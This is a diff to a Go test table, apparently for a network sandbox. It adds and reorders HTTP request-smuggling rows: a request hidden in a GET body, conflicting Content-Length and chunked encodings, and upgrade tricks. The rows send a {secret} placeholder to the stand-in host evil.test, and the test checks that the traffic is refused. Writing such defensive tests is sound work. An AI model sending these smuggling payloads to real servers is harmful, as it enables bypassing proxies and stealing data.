@@ -22,7 +22,18 @@ const (
 	closing = `\r\nConnection: close\r\n\r\n`
 )
 
+// bodyOfGET is a request that a server which leaves the bodies of GET alone takes
+// for two, and one more, which comes too late: the server closes, and it depends
+// on how fast whether that is seen before what follows is refused.
+func bodyOfGET() row {
+	r := smuggle("E11", "a second request as the body of a GET, and a third behind it", reset1+"|"+reset,
+		`GET /first HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 36\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: good.example.com`+closing)
+	r.refused = []string{"?refused tcp good.example.com:80"}
+	return r
+}
+
 var httpRows = []row{
+	bodyOfGET(),
 	smuggle("E11", "another host after an upgrade that the server declines", reset1,
 		`GET /declined HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
 	smuggle("E11", "another host right behind an upgrade that the server declines", reset1+"|"+reset,
@@ -54,8 +65,6 @@ var httpRows = []row{
 	smuggle("E-7", "an upgrade to version 2 or another", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c, websocket\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`),
 	smuggle("E-7", "version 2 after an offer of it", reset1+"|"+reset, `GET /first HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`,
 		`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{secret}`),
-	smuggle("E11", "a second request as the body of a GET, and a third behind it", reset1+"|"+reset,
-		`GET /first HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 37\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: good.example.com`+closing),
 	smuggle("E11", "a length and chunks", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
 	smuggle("E11", "two lengths", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
 	smuggle("E11", "chunks by another name", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
